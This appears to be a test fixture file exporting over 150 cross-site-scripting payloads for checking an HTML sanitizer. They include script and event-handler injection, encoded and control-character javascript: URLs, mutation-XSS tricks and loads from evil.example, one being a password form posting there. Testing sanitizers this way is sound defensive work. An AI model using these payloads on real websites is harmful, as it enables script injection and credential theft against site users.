// Markup that tries to run, to load from elsewhere or to break out of its place. `\x..`, `\t` and `\n` are the characters.

const WRITTEN = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script/src=data:,alert(1)></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script>alert(1)
<script\x20type="text/javascript">alert(1);</script>
<script\x0Ctype="text/javascript">alert(1);</script>
<script x>alert(1)</script 1=2
<script/xss/src="https://evil.example/x.js"></script>
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1)</script></svg>
<svg><script xlink:href="data:,alert(1)"/></svg>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1) /><text>a</text></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=1em>a</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>
<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">a</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><img src=x onerror=alert(1)></noscript>
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><img src=x onerror=alert(1)></noframes>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<plaintext><img src=x onerror=alert(1)>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<style>@import 'https://evil.example/x.css';</style>
<style>*{background:url(javascript:alert(1))}</style>
<style><!--</style><script>alert(1)//--></script>
<style></style   ><img src=x onerror=alert(1)>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="Set-Cookie" content="a=b">
<base href="https://evil.example/">
<base target=_top>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"/>
<img/src=x/onerror=alert(1)>
<img src="x" OnErRoR='alert(1)'>
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<img """><script>alert(1)</script>">
<img src='x' o\x00nerror=alert(1)>
<img src="javascript:alert(1)">
<img src=" &#14; javascript:alert(1);">
<img src="jav&#x09;ascript:alert(1)">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<img src="//evil.example/x.png">
<img src="/\evil.example/x.png">
<img src="http://evil.example/x.png">
<img src="blob:https://evil.example/1">
<img src="https://x.example/a.png" srcset="javascript:alert(1) 1x">
<img src="https://x.example/a.png" onload=alert(1) style="position:fixed;inset:0">
<img src="https://x.example/a.png" usemap="#m" longdesc="javascript:alert(1)">
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<image src=x onerror=alert(1)>
<picture><source srcset="x" onerror=alert(1)><img src=x onerror=alert(1)></picture>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)>
<audio autoplay onplay=alert(1)><source src="https://x.example/a.mp3"></audio>
<track onload=alert(1) src=x>
<a href="javascript:alert(1)">a</a>
<a href="JaVaScRiPt:alert(1)">a</a>
<a href=" javascript:alert(1)">a</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">a</a>
<a href="java&#0000010script:alert(1)">a</a>
<a href="java\tscript:alert(1)">a</a>
<a href="java\nscript:alert(1)">a</a>
<a href="\x01javascript:alert(1)">a</a>
<a href="javascript&colon;alert(1)">a</a>
<a href="javascript&Tab;:alert(1)">a</a>
<a href="vbscript:msgbox(1)">a</a>
<a href="livescript:alert(1)">a</a>
<a href="data:text/html,<script>alert(1)</script>">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>
<a href="blob:https://evil.example/1">a</a>
<a href="filesystem:https://evil.example/1">a</a>
<a href="file:///etc/passwd">a</a>
<a href="view-source:https://evil.example">a</a>
<a href="//evil.example">a</a>
<a href="intent://evil#Intent;scheme=https;end">a</a>
<a href="https://x.example" onclick=alert(1)>a</a>
<a href="https://x.example" onmouseover="alert(1)" target=_blank ping="https://evil.example">a</a>
<a href='https://x.example"onclick="alert(1)'>a</a>
<a href="https://x.example/&quot; onclick=&quot;alert(1)">a</a>
<a id=location name=cookie href=x>a</a>
<a xlink:href="javascript:alert(1)" href=x>a</a>
<a href="https://x.example" style="background:url(javascript:alert(1))">a</a>
<a href=javascript&#58;alert(1)>a</a>
<area shape=rect coords=0,0,9,9 href="javascript:alert(1)">
<map name=m><area href="javascript:alert(1)"></map>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="https://www.youtube-nocookie.com/embed/aaaaaaaaaaa" srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="https://www.youtube-nocookie.com/embed/aaaaaaaaaaa" onload=alert(1)></iframe>
<iframe src="https://www.youtube-nocookie.com@evil.example/embed/aaaaaaaaaaa"></iframe>
<iframe src="https://www.youtube-nocookie.com.evil.example/embed/aaaaaaaaaaa"></iframe>
<iframe src="https://evil.example/#https://www.youtube-nocookie.com/embed/aaaaaaaaaaa"></iframe>
<iframe src="https://www.youtube-nocookie.com/embed/../redirect"></iframe>
<iframe src="http://www.youtube-nocookie.com/embed/aaaaaaaaaaa"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe><img src=x onerror=alert(1)></iframe>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object type="text/x-scriptlet" data="https://evil.example"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:alert(1)">
<embed code="https://evil.example/x.swf" allowscriptaccess=always>
<applet code="javascript:alert(1)"></applet>
<form action="javascript:alert(1)"><input type=submit></form>
<form action="https://evil.example"><input name=password type=password></form>
<button formaction="javascript:alert(1)">a</button>
<input type=image src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<select autofocus onfocus=alert(1)></select>
<keygen autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<details open ontoggle=alert(1)><summary>a</summary></details>
<dialog open onclose=alert(1)></dialog>
<marquee onstart=alert(1)>a</marquee>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html onmouseover=alert(1)>
<p onclick=alert(1)>a</p>
<p style="width:expression(alert(1))">a</p>
<p style="-moz-binding:url(https://evil.example/x.xml#x)">a</p>
<p style="background-image:url(javascript:alert(1))">a</p>
<p id=x tabindex=1 onfocus=alert(1)>a</p>
<p contenteditable onblur=alert(1)>a</p>
<p class="x" slot=x part=x is=x-y>a</p>
<p popover id=x onbeforetoggle=alert(1)>a</p>
<p/onpointerover=alert(1)>a</p>
<p\x0bonclick=alert(1)>a</p>
<p lang="en" onclick="alert(1)" lang='"><script>alert(1)</script>'>a</p>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">a</td></tr></table>
<table><td colspan="2 onclick=alert(1)">a</td></table>
<th scope='row" onclick="alert(1)'>a</th>
<ol start="1 onclick=alert(1)"><li>a</li></ol>
<bgsound src="javascript:alert(1)">
<layer src="https://evil.example/x.js"></layer>
<xml id=x><x><c><![CDATA[<img src="javascript:alert(1)">]]></c></x></xml>
<![CDATA[<script>alert(1)</script>]]>
<!--><script>alert(1)</script>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<x-widget onclick=alert(1)>a</x-widget>
<custom style="animation-name:x" onanimationstart=alert(1)>a</custom>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
\u003cscript\u003ealert(1)\u003c/script\u003e
＜script＞alert(1)＜/script＞
<\x00script>alert(1)</script>
<scri\x00pt>alert(1)</scri\x00pt>
</p><script>alert(1)</script><p>
<b/><i/><script>alert(1)</script>
<b <script>alert(1)</script>0</b>
<div><p><div><img src=x onerror=alert(1)></div>
<a href="https://x.example"><a href="javascript:alert(1)">a</a></a>
"><img src=x onerror=alert(1)>
'><svg/onload=alert(1)>
--><script>alert(1)</script>
]]><script>alert(1)</script>
`

const CONTROL = /\\(?:x([0-9a-fA-F]{2})|(t)|(n))/g

/** At least 120 hostile texts; each would do harm if it were shown as it is. */
export const hostileHtml: readonly string[] = WRITTEN.trim()
  .split('\n')
  .map((line) =>
    line.replace(CONTROL, (_, code?: string, tab?: string) =>
      code ? String.fromCharCode(Number.parseInt(code, 16)) : tab ? '\t' : '\n',
    ),
  )
